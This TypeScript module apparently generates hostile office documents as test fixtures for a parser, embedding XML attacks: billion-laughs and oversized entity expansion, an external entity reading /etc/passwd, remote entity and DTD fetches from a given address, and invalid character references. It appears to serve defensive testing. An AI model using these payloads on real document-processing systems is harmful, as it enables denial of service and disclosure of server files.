import { ofKind, PLAIN_WORDS, type HostileDocument } from './hostile-document.ts'
import {
  open,
  openParts,
  openStart,
  openEnd,
  paragraph,
  sheetParts,
  SHEET_END,
  SHEET_START,
  slideParts,
  SLIDE_END,
  SLIDE_START,
  shape,
  cell,
  row,
  wordParts,
  WORD_END,
  WORD_START,
} from './packages.ts'
import { zip } from './zip.ts'

const withType = (xml: string, name: string, declarations: string): string =>
  xml.replace('?>\n', `?>\n<!DOCTYPE ${name} [${declarations}]>\n`)

function billionLaughs(): string {
  const levels = Array.from(
    { length: 10 },
    (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at};`.repeat(10)}">`,
  )
  return `<!ENTITY lol0 "lol">${levels.join('')}`
}

const wordDocument = (content: string, declarations: string): Buffer =>
  zip(
    wordParts('', {
      'word/document.xml': withType(
        WORD_START + paragraph(content) + WORD_END,
        'w:document',
        declarations,
      ),
    }),
  )

/** `address`: of a server that nobody may ask. */
export const entities = (address: string): HostileDocument[] =>
  ofKind('entity', [
    [
      'billion-laughs.docx',
      'has entities that grow to ten billion words',
      () => wordDocument('&lol10;', billionLaughs()),
    ],
    [
      'billion-laughs.xlsx',
      'has entities that grow to ten billion words',
      () =>
        zip(
          sheetParts([
            withType(
              SHEET_START + row(1, cell('A1', '&lol10;')) + SHEET_END,
              'worksheet',
              billionLaughs(),
            ),
          ]),
        ),
    ],
    [
      'billion-laughs.pptx',
      'has entities that grow to ten billion words',
      () =>
        zip(
          slideParts([
            withType(SLIDE_START + shape('&lol10;') + SLIDE_END, 'p:sld', billionLaughs()),
          ]),
        ),
    ],
    [
      'billion-laughs.odt',
      'has entities that grow to ten billion words',
      () =>
        zip(
          openParts(
            'text',
            withType(
              `${openStart('text')}<text:p>&lol10;</text:p>${openEnd('text')}`,
              'a',
              billionLaughs(),
            ),
          ),
        ),
    ],
    [
      'long-entity.docx',
      'repeats an entity of 100 kB 100,000 times',
      () => wordDocument('&a;'.repeat(100_000), `<!ENTITY a "${'a'.repeat(100_000)}">`),
    ],
    [
      'file-entity.docx',
      'takes a text from a file of the server',
      () => wordDocument('&file;', '<!ENTITY file SYSTEM "file:///etc/passwd">'),
    ],
    [
      'remote-entity.docx',
      'takes a text and a declaration from another server',
      () =>
        wordDocument(
          '&remote;',
          `<!ENTITY remote SYSTEM "${address}/entity"><!ENTITY % more SYSTEM "${address}/more.dtd">%more;`,
        ),
    ],
    [
      'remote-type.odt',
      'has a document type of another server',
      () =>
        zip(
          openParts(
            'text',
            `${openStart('text')}<text:p>${PLAIN_WORDS}</text:p>${openEnd('text')}`.replace(
              '?>\n',
              `?>\n<!DOCTYPE a PUBLIC "-//A//B" "${address}/office.dtd">\n`,
            ),
          ),
        ),
    ],
    [
      'characters.odt',
      'has a million references to characters, some of which do not exist',
      () =>
        open(
          'text',
          `<text:p>${'&#x110000;&#0;&#xD800;&#99999999999;&#97;&amp;'.repeat(170_000)}</text:p>`,
        ),
    ],
  ])
